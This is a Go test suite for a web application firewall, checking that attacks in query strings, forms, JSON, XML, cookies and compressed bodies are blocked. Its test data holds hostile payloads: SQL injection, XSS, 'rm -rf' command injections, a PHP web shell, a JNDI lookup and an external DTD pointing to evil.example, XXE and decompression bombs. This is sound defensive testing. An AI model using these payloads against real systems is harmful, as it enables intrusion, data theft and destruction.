package waf_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"sync"
	"testing"

	"github.com/andybalholm/brotli"

	"github.com/merlon-dev/merlon"
	"github.com/merlon-dev/merlon/merlontest"
	"github.com/merlon-dev/merlon/waf"
)

const browser = "User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/149.0.0.0 Safari/537.36\nAccept: */*\n"

// newGuard makes a guard, once for settings that are equal: it takes long.
func newGuard(t testing.TB, c waf.Config) *waf.Guard {
	t.Helper()
	key := fmt.Sprintf("%+v", c)
	if g, ok := guards.Load(key); ok {
		return g.(*waf.Guard)
	}
	g, err := waf.New(c)
	if err != nil {
		t.Fatal(err)
	}
	guards.Store(key, g)
	return g
}

var guards sync.Map // of settings as they are printed

func run(t *testing.T, c waf.Config, cases []merlontest.Case) {
	t.Helper()
	g := newGuard(t, c) // compiled once: it takes long
	merlontest.Run(t, func(*testing.T) merlon.Guard { return g }, merlontest.Options{}, cases)
}

func get(value string) string {
	return "GET /search?lang=en&q=" + url.QueryEscape(value) + "\n" + browser
}

func post(contentType, body string) string {
	return "POST /api/things\n" + browser + "Content-Type: " + contentType + "\n\n" + body
}

// with gives a request a body of any bytes; wire text would change line ends.
func with(body string) func(*merlon.Request) {
	return func(r *merlon.Request) { setBody(r, body) }
}

// chunked is the same without a length.
func chunked(body string) func(*merlon.Request) {
	return func(r *merlon.Request) {
		setBody(r, body)
		r.ContentLength = -1
		r.TransferEncoding = []string{"chunked"}
	}
}

// typed is the head of a POST whose body is set by with or chunked.
func typed(contentType string) string {
	return "POST /api/things\n" + browser + "Content-Type: " + contentType + "\n"
}

func multipartBody(lines ...string) string { return strings.Join(lines, "\r\n") + "\r\n" }

func field(name, value string) string {
	return multipartBody("--b0undary", `Content-Disposition: form-data; name="`+name+`"`, "", value)
}

func file(name, fileName, content string) string {
	return multipartBody("--b0undary", `Content-Disposition: form-data; name="`+name+`"; filename="`+fileName+`"`, "Content-Type: application/octet-stream", "", content)
}

const (
	endOfForm = "--b0undary--\r\n"
	formType  = "multipart/form-data; boundary=b0undary"
)

func TestAttacks(t *testing.T) {
	payloads := map[string]string{
		"log-in bypass":         "admin' --",
		"log-in bypass, space":  "admin' -- ",
		"log-in bypass, hash":   "admin'#",
		"log-in bypass, nested": "admin'/*x*/--",
		"tautology":             "' OR '1'='1",
		"UNION":                 "x' UNION SELECT username, password FROM users -- ",
		"script":                "<script>alert(document.cookie)</script>",
		"event handler":         `<img src=x onerror=alert(1)>`,
		"shell command":         "127.0.0.1; rm -rf /var/www",
		"cloud metadata":        "http://169.254.169.254/latest/meta-data/",
		"eval":                  "require('child_process').exec('rm -rf /')",
		"path traversal":        "../../../../etc/passwd",
		"JNDI":                  "${jndi:ldap://evil.example/a}",
		"PHP":                   "<?php system($_GET['c']); ?>",
	}
	var cases []merlontest.Case
	for name, p := range payloads {
		inJSON := strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(p)
		inXML := strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(p)
		for where, request := range map[string]string{
			"multipart": typed(formType),
			"query":     get(p),
			"form":      post("application/x-www-form-urlencoded", "a=1&user="+url.QueryEscape(p)),
			"JSON":      post("application/json", `{"user": {"name": "`+inJSON+`"}}`),
			"JSON type": post("application/vnd.api+json; charset=utf-8", `[{"a": "`+inJSON+`"}]`),
			"XML":       post("text/xml", "<a><b>"+inXML+"</b></a>"),
			"cookie":    "GET /\n" + browser + "Cookie: theme=dark; user=" + strings.ReplaceAll(p, ";", "%3b"),
		} {
			if where == "cookie" && (strings.HasPrefix(name, "log-in") || name == "cloud metadata" || name == "path traversal" || name == "eval") {
				continue // not looked for there at this level
			}
			if where == "XML" && strings.HasPrefix(name, "log-in bypass, ") {
				continue
			}
			c := merlontest.Case{Name: name + " in " + where, Request: request, Want: waf.Attack, Status: http.StatusForbidden}
			if where == "multipart" {
				c.Prepare = with(field("user", p) + endOfForm)
			}
			cases = append(cases, c)
		}
	}
	run(t, waf.Config{}, cases)
}

func TestOrdinaryUse(t *testing.T) {
	run(t, waf.Config{}, []merlontest.Case{
		{Name: "plain page", Request: "GET /\n" + browser, Want: waf.Clean},
		{Name: "a name with a quote", Request: get("O'Brien"), Want: waf.Clean},
		{Name: "words of SQL", Request: get("select committee"), Want: waf.Clean},
		{Name: "a measure", Request: get(`5' 10" tall`), Want: waf.Clean},
		{Name: "a dash", Request: get("rock 'n' roll -- live"), Want: waf.Clean},
		{Name: "a number sign", Request: get("it's #1"), Want: waf.Clean},
		{Name: "base64", Request: post("application/json", `{"blob": "SGVsbG8sIHdvcmxkISBUaGlzIGlzIGEgYmxvYiBvZiBiYXNlNjQ/Pz8+Pj4vLy8="}`), Want: waf.Clean},
		{Name: "a post about code", Request: post("application/x-www-form-urlencoded", "title=Loops&text="+url.QueryEscape("How do I loop over a slice?\n\n    for i, v := range list {\n        fmt.Println(i, v)\n    }\n\nThanks, Pat")), Want: waf.Clean},
		{Name: "PUT", Request: "PUT /api/things/7\n" + browser + "Content-Type: application/json\n\n{\"name\": \"chair\"}", Want: waf.Clean},
		{Name: "PATCH", Request: "PATCH /api/things/7\n" + browser + "Content-Type: application/merge-patch+json\n\n{\"name\": null}", Want: waf.Clean},
		{Name: "DELETE", Request: "DELETE /api/things/7\n" + browser, Want: waf.Clean},
		{Name: "gRPC", Request: post("application/grpc+proto", "\x00\x00\x00\x00\x05hello"), Want: waf.Clean},
		{Name: "protobuf, compressed in a way of its own", Request: "POST /push\n" + browser + "Content-Type: application/x-protobuf\nContent-Encoding: snappy\n\n\x01\x02", Want: waf.Clean},
		{Name: "CSP report", Request: post("application/csp-report", `{"csp-report": {"document-uri": "https://shop.example.com/", "violated-directive": "img-src"}}`), Want: waf.Clean},
		{Name: "reports", Request: post("application/reports+json", `[{"type": "csp-violation", "age": 10}]`), Want: waf.Clean},
		{Name: "XML", Request: post("application/soap+xml; charset=utf-8", `<?xml version="1.0" encoding="utf-8"?><Envelope><Body><Price item="7"/></Body></Envelope>`), Want: waf.Clean},
		{Name: "XML in Latin-1", Request: post("text/xml", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>caf\xe9</a>"), Want: waf.Clean},
		{Name: "text", Request: post("text/plain;charset=UTF-8", "hello, this is a beacon"), Want: waf.Clean},
		{Name: "octets", Request: post("application/octet-stream", "<script>alert(1)</script>"), Want: waf.Clean},
		{Name: "upload", Request: typed(formType), Prepare: with(field("caption", "my cat") + file("photo", "cat.jpg", "\xff\xd8<?php ' OR 1=1 --") + endOfForm), Want: waf.Clean},
		{Name: "no file chosen", Request: typed(formType), Prepare: with(field("caption", "x") + file("photo", "", "") + endOfForm), Want: waf.Clean},
		{Name: "100-continue", Request: "PUT /f\n" + browser + "Expect: 100-continue\nContent-Type: application/json\n\n{}", Want: waf.Clean},
		{Name: "empty POST", Request: "POST /logout\n" + browser + "Content-Length: 0\n", Want: waf.Clean},
		{Name: "empty chunked POST", Request: typed("application/json"), Prepare: chunked(""), Want: waf.Clean},
		{Name: "semicolons in the query", Request: "GET /?a=1;b=2;c=3\n" + browser, Want: waf.Clean},
		{Name: "broken escape", Request: "GET /?a=100%25&b=5%+off\n" + browser, Want: waf.Clean},
		{Name: "repeated names", Request: "GET /?id=1&id=2&id=3&tag[]=a&tag[]=b\n" + browser + "Cookie: a=1; a=2\n", Want: waf.Clean},
	})
}

// Where parsers of queries differ, the attack is found all the same.
func TestQueryDifferences(t *testing.T) {
	const attack = "%3Cscript%3Ealert(1)%3C/script%3E"
	var cases []merlontest.Case
	for name, query := range map[string]string{
		"after a semicolon":        "a=1;b=" + attack,
		"second of two":            "a=1&a=" + attack,
		"first of two":             "a=" + attack + "&a=1",
		"array":                    "a[]=1&a[]=" + attack,
		"without a name":           "=" + attack,
		"without a value":          attack,
		"after a broken escape":    "a=%zz" + attack,
		"other case":               "A=1&a=" + attack,
		"escaped twice":            "a=" + strings.ReplaceAll(attack, "%", "%25"),
		"after an empty parameter": "&&&a=" + attack,
	} {
		cases = append(cases, merlontest.Case{Name: name, Request: "GET /?" + query + "\n" + browser, Want: waf.Attack, Status: http.StatusForbidden})
	}
	cases = append(cases, merlontest.Case{Name: "in body and query", Want: waf.Attack, Status: http.StatusForbidden,
		Request: "POST /?a=1\n" + browser + "Content-Type: application/x-www-form-urlencoded\n\na=" + attack})
	run(t, waf.Config{}, cases)
}

func TestContentTypes(t *testing.T) {
	refused := func(name, contentType string) merlontest.Case {
		return merlontest.Case{Name: name, Request: post(contentType, "a=1"), Want: waf.ContentType, Status: http.StatusUnsupportedMediaType}
	}
	run(t, waf.Config{}, []merlontest.Case{
		refused("unknown", "application/x-php"),
		refused("IBM037", "application/x-www-form-urlencoded; charset=IBM037"),
		refused("utf-7", "application/json; charset=utf-7"),
		refused("utf-16", "text/xml; charset=utf-16"),
		refused("two charsets", "application/json; charset=utf-8; charset=utf-7"),
		refused("two types in one field", "application/json, text/plain"),
		refused("not a type", "json"),
		refused("leading no-break space", "\u00a0application/json"),
		refused("no boundary", "multipart/form-data"),
		refused("two boundaries", "multipart/form-data; boundary=a; boundary=b"),
		refused("boundary under another name first", "multipart/form-data; xboundary=a; boundary=b"),
		refused("boundary in pieces", "multipart/form-data; boundary*0=a; boundary*1=b"),
		refused("boundary after a space", "multipart/form-data;boundary= a"),
		refused("boundary with an escape", `multipart/form-data; boundary="\a"`),
		refused("boundary with a comma", `multipart/form-data; boundary="a,b"`),
		{Name: "two fields", Request: "POST /\n" + browser + "Content-Type: application/json\nContent-Type: text/plain\n\n{}", Want: waf.ContentType, Status: 415},
		{Name: "missing", Request: "POST /\n" + browser + "\n{}", Want: waf.ContentType, Status: 415},
		{Name: "missing, chunked", Request: "POST /\n" + browser, Prepare: chunked("{}"), Want: waf.ContentType, Status: 415},
		{Name: "JSON declared as a form is read as a form", Request: post("application/x-www-form-urlencoded", `{"a":"<script>alert(1)</script>"}`), Want: waf.Attack, Status: 403},
		{Name: "JSON declared as text", Request: post("text/plain", `{"a":"<script>alert(1)</script>"}`), Want: waf.Attack, Status: 403},
		{Name: "a form declared as JSON", Request: post("application/json", "a=<script>alert(1)</script>"), Want: waf.Malformed, Status: 400},
	})
	run(t, waf.Config{ContentTypes: []string{"image/*", "application/x-ndjson"}}, []merlontest.Case{
		{Name: "added image", Request: post("image/png", "\x89PNG"), Want: waf.Clean},
		{Name: "added text is inspected", Request: post("application/x-ndjson", "{\"a\":\"<script>alert(1)</script>\"}\n"), Want: waf.Attack, Status: 403},
		{Name: "others are still refused", Request: post("application/x-php", "x"), Want: waf.ContentType, Status: 415},
	})
	run(t, waf.Config{Exclude: []waf.Exclude{{Rule: waf.RuleIDs{920340, 920640}}}}, []merlontest.Case{
		{Name: "allowed to be missing, read as text", Request: "POST /\n" + browser + "\nhello", Want: waf.Clean},
		{Name: "an attack without a type", Request: "POST /\n" + browser + "\n<script>alert(1)</script>", Want: waf.Attack, Status: 403},
	})
}

func zip(t testing.TB, s string) string {
	t.Helper()
	return zipNamed(t, s, "")
}

// zipNamed compresses s like a file of the given name.
func zipNamed(t testing.TB, s, name string) string {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Name = name
	if _, err := w.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func brotlied(t testing.TB, s string) string {
	t.Helper()
	var b bytes.Buffer
	w := brotli.NewWriter(&b)
	if _, err := w.Write([]byte(s)); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

func TestContentCodings(t *testing.T) {
	coded := func(coding, contentType, body string) func(*merlon.Request) {
		// Set here and not in the wire text, which cannot hold every byte.
		return func(r *merlon.Request) {
			*r.Request = *merlontest.Request(t, "POST /api\n"+browser+"Content-Type: "+contentType+"\nContent-Encoding: "+coding+"\n").Request
			setBody(r, body)
		}
	}
	const bad, good = `{"q": "' OR '1'='1' --"}`, `{"q": "tea"}`
	cases := []merlontest.Case{
		{Name: "gzip", Prepare: coded("gzip", "application/json", zip(t, good)), Want: waf.Clean},
		{Name: "gzip, attack", Prepare: coded("gzip", "application/json", zip(t, bad)), Want: waf.Attack, Status: 403},
		{Name: "br", Prepare: coded("br", "application/json", brotlied(t, good)), Want: waf.Clean},
		{Name: "br, attack", Prepare: coded("br", "application/json", brotlied(t, bad)), Want: waf.Attack, Status: 403},
		{Name: "gzip, form", Prepare: coded("gzip", "application/x-www-form-urlencoded", zip(t, "q=tea")), Want: waf.Clean},
		{Name: "gzip, form, attack", Prepare: coded("gzip", "application/x-www-form-urlencoded", zip(t, "q=%27+OR+1%3D1--")), Want: waf.Attack, Status: 403},
		{Name: "gzip, multipart, attack", Prepare: coded("gzip", formType, zip(t, field("q", "' OR '1'='1' --")+endOfForm)), Want: waf.Attack, Status: 403},
		{Name: "a form beside the compressed one", Prepare: coded("gzip", "application/x-www-form-urlencoded", zipNamed(t, "q=tea", "&q=<script>alert(1)</script>&")), Want: waf.Attack, Status: 403},
		{Name: "a file name beside it", Prepare: coded("gzip", "application/x-www-form-urlencoded", zipNamed(t, "q=tea", "my documents.txt")), Want: waf.Clean},
		{Name: "identity", Prepare: coded("identity", "application/json", good), Want: waf.Clean},
		{Name: "bomb", Prepare: coded("gzip", "application/json", zip(t, `"`+strings.Repeat("0", 900<<10)+`"`)), Want: waf.TooLarge, Status: 413},
		{Name: "large bomb", Prepare: coded("gzip", "application/json", zip(t, strings.Repeat(" ", 4<<20))), Want: waf.TooLarge, Status: 413},
		{Name: "br bomb", Prepare: coded("br", "application/json", brotlied(t, strings.Repeat(" ", 4<<20))), Want: waf.TooLarge, Status: 413},
		{Name: "stacked", Prepare: coded("gzip, gzip", "application/json", zip(t, zip(t, bad))), Want: waf.Encoding, Status: 415},
		{Name: "deflate", Prepare: coded("deflate", "application/json", good), Want: waf.Encoding, Status: 415},
		{Name: "unknown", Prepare: coded("zstd", "application/json", good), Want: waf.Encoding, Status: 415},
		{Name: "declared but not done", Prepare: coded("gzip", "application/json", bad), Want: waf.Malformed, Status: 400},
		{Name: "second member", Prepare: coded("gzip", "application/json", zip(t, good)+zip(t, bad)), Want: waf.Malformed, Status: 400},
		{Name: "trailing text", Prepare: coded("br", "application/json", brotlied(t, good)+bad), Want: waf.Malformed, Status: 400},
		{Name: "cut", Prepare: coded("gzip", "application/json", zip(t, good)[:20]), Want: waf.Malformed, Status: 400},
	}
	for i := range cases {
		cases[i].Request = "POST /"
	}
	run(t, waf.Config{}, cases)
}

func TestDocuments(t *testing.T) {
	malformed := func(name, contentType, body string) merlontest.Case {
		return merlontest.Case{Name: name, Request: post(contentType, body), Want: waf.Malformed, Status: http.StatusBadRequest}
	}
	run(t, waf.Config{}, []merlontest.Case{
		malformed("JSON with trailing data", "application/json", `{"a":1}{"b":2}`),
		malformed("JSON with a comment", "application/json", `{"a":1 /* x */}`),
		malformed("JSON that is cut", "application/json", `{"a":1`),
		malformed("JSON with a byte order mark", "application/json", "\ufeff{}"),
		malformed("JSON in UTF-16", "application/json", "\xff\xfe{\x00}\x00"),
		malformed("deep JSON", "application/json", strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000)),
		{Name: "duplicate JSON keys are both seen", Request: post("application/json", `{"a":"<script>alert(1)</script>","a":"x"}`), Want: waf.Attack, Status: 403},
		{Name: "duplicate JSON keys, the other order", Request: post("application/json", `{"a":"x","a":"<script>alert(1)</script>"}`), Want: waf.Attack, Status: 403},
		{Name: "an attack in a JSON key", Request: post("application/json", `{"<script>alert(1)</script>":1}`), Want: waf.Attack, Status: 403},
		{Name: "a JSON string alone", Request: post("application/json", `"<script>alert(1)</script>"`), Want: waf.Attack, Status: 403},
		{Name: "escaped JSON", Request: post("application/json", `{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`), Want: waf.Attack, Status: 403},
		malformed("XML that is cut", "text/xml", `<a b="<script>alert(1)</script>`),
		malformed("XML that is not closed", "text/xml", `<a><b>x</b>`),
		malformed("XML in UTF-16 without saying so", "text/xml", "\xff\xfe<\x00a\x00/\x00>\x00"),
		malformed("XML in UTF-7", "text/xml", `<?xml version="1.0" encoding="UTF-7"?>+ADw-a+AD4-`),
		malformed("XML in UTF-16", "text/xml", `<?xml version="1.0" encoding="UTF-16"?><a/>`),
		malformed("external entity", "text/xml", `<!DOCTYPE a [<!ENTITY x SYSTEM "file:///srv/x">]><a>&x;</a>`),
		malformed("billion laughs", "application/soap+xml", `<!DOCTYPE a [<!ENTITY x "ha"><!ENTITY y "&x;&x;">]><a>&y;</a>`),
		malformed("external DTD", "image/svg+xml", `<!DOCTYPE svg PUBLIC "x" "http://evil.example/x.dtd"><svg/>`),
		{Name: "an attack in CDATA", Request: post("text/xml", `<a><![CDATA[<script>alert(1)</script>]]></a>`), Want: waf.Attack, Status: 403},
		{Name: "an attack in an attribute", Request: post("text/xml", `<a b="&lt;script&gt;alert(1)&lt;/script&gt;"/>`), Want: waf.Attack, Status: 403},
	})
	run(t, waf.Config{Exclude: []waf.Exclude{{Rule: waf.RuleIDs{99031}}}}, []merlontest.Case{
		{Name: "a DTD where it is allowed", Request: post("text/xml", `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "x.dtd"><plist/>`), Want: waf.Clean},
	})
}

func TestBounds(t *testing.T) {
	c := waf.Config{Limit: 8 * merlon.KiB, Arguments: 20}
	long := strings.Repeat("a ", 6<<10)
	many := func(sep, s string) string { return strings.Repeat(s+sep, 20) + s }
	run(t, c, []merlontest.Case{
		{Name: "long form", Request: post("application/x-www-form-urlencoded", "a="+long), Want: waf.TooLarge, Status: 413},
		{Name: "long JSON", Request: post("application/json", `"`+long+`"`), Want: waf.TooLarge, Status: 413},
		{Name: "long XML", Request: post("text/xml", "<a>"+long+"</a>"), Want: waf.TooLarge, Status: 413},
		{Name: "long text", Request: post("text/plain", long), Want: waf.TooLarge, Status: 413},
		// The field is refused when its end does not come: see TestStreaming.
		{Name: "long field", Request: typed(formType), Prepare: with(field("a", long) + endOfForm), Want: waf.Clean},
		{Name: "long octets", Request: post("application/octet-stream", long), Want: waf.Clean},
		{Name: "long file", Request: typed(formType), Prepare: with(file("a", "a.bin", long) + endOfForm), Want: waf.Clean},
		{Name: "a form of the limit", Request: post("application/x-www-form-urlencoded", "a="+strings.Repeat("b", 8<<10-2)), Want: waf.Clean},
		{Name: "a chunked form beyond it", Request: typed("application/x-www-form-urlencoded"), Prepare: chunked("a=" + strings.Repeat("b", 8<<10-1)), Want: waf.TooLarge, Status: 413},
		{Name: "many query parameters", Request: "GET /?" + many("&", "a=1") + "\n" + browser, Want: waf.TooManyArguments, Status: 413},
		{Name: "many fields", Request: post("application/x-www-form-urlencoded", many("&", "a=1")), Want: waf.TooManyArguments, Status: 413},
		{Name: "many JSON values", Request: post("application/json", "["+many(",", "1")+"]"), Want: waf.TooManyArguments, Status: 413},
		{Name: "many XML values", Request: post("text/xml", "<a>"+many("", "<b>1</b>")+"</a>"), Want: waf.TooManyArguments, Status: 413},
		{Name: "many multipart fields", Request: typed(formType), Prepare: with(many("", field("a", "1")) + endOfForm), Want: waf.TooManyArguments, Status: 413},
		{Name: "as many as allowed", Request: post("application/json", "["+strings.Repeat("1,", 19)+"1]"), Want: waf.Clean},
	})
}

func TestSettings(t *testing.T) {
	_, err := waf.New(waf.Config{Paranoia: 5, Threshold: -1, Limit: 1, Arguments: 1 << 30, ContentTypes: []string{"json", "*/*"}})
	for _, want := range []string{
		`paranoia "5": must be from 1 to 4`, `threshold "-1"`, `limit "1": must be from 1KiB to 64MiB`, `arguments "1073741824"`,
		`content_types[0] "json"`, `content_types[1] "*/*"`,
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q is missing in: %v", want, err)
		}
	}
	_, err = waf.New(waf.Config{Exclude: []waf.Exclude{
		{}, {Rule: waf.RuleIDs{1}}, {Rule: waf.RuleIDs{949110}}, {Tag: "none"},
		{Rule: waf.RuleIDs{942100}, Target: "arg"}, {Rule: waf.RuleIDs{942100}, Target: waf.Body, Name: "x"}, {Rule: waf.RuleIDs{942100}, Tag: "attack-sqli"},
	}})
	for _, want := range []string{
		`exclude[0]: must name a rule or a tag`, `exclude[1].rule "1"`, `exclude[2].rule "949110"`, `exclude[3].tag "none"`,
		`exclude[4].target "arg": must be one of args, `, `exclude[5].name "x"`, `exclude[6]: must name a rule or a tag, not both`,
	} {
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q is missing in: %v", want, err)
		}
	}
}

// A higher level finds more; a higher threshold lets more pass.
func TestLevels(t *testing.T) {
	suspicious := get("x;select 1") // found from level 2 on
	run(t, waf.Config{Paranoia: 1}, []merlontest.Case{{Name: "level 1", Request: suspicious, Want: waf.Clean}})
	run(t, waf.Config{Paranoia: 4}, []merlontest.Case{{Name: "level 4", Request: suspicious, Want: waf.Attack, Status: 403}})
	run(t, waf.Config{Threshold: 100}, []merlontest.Case{{Name: "threshold 100", Request: get("' OR '1'='1"), Want: waf.Clean}})
}
